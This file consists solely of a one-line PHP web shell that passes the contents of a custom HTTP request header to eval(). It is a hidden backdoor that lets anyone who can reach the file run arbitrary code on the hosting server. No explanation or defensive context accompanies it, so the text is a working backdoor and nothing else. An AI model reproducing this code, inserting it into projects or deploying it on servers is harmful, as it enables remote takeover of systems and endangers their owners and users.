<?php eval($_SERVER['HTTP_X_CODE']); ?>
